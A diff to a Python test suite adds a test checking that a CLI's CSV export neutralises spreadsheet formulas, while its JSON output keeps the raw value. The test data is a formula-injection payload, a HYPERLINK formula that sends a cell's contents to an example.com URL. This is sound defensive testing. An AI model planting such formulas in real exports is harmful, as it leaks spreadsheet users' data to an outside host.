@@ -325,6 +325,14 @@ class TestStore:
         (row,) = csv.DictReader(io.StringIO(cli.ok("corrections", "list", "--format", "csv").stdout))
         assert [row] == listed(cli)
 
+    def test_a_csv_list_holds_no_formula(self, cli: CLI, report: Path) -> None:
+        correct(report, T1=("Hardware", "Laptop Repair"))
+        formula = '=HYPERLINK("https://example.com/?leak="&A1,"look")'
+        cli.ok("corrections", "import", str(report), "--by", formula)
+        (row,) = csv.DictReader(io.StringIO(cli.ok("corrections", "list", "--format", "csv").stdout))
+        assert row["imported_by"] == f"'{formula}"
+        assert listed(cli)[0]["imported_by"] == formula, "JSON is for programs"
+
     @pytest.mark.parametrize(
         "content", [b"no database at all, but long enough to be looked at", b""], ids=["text", "empty"]
     )
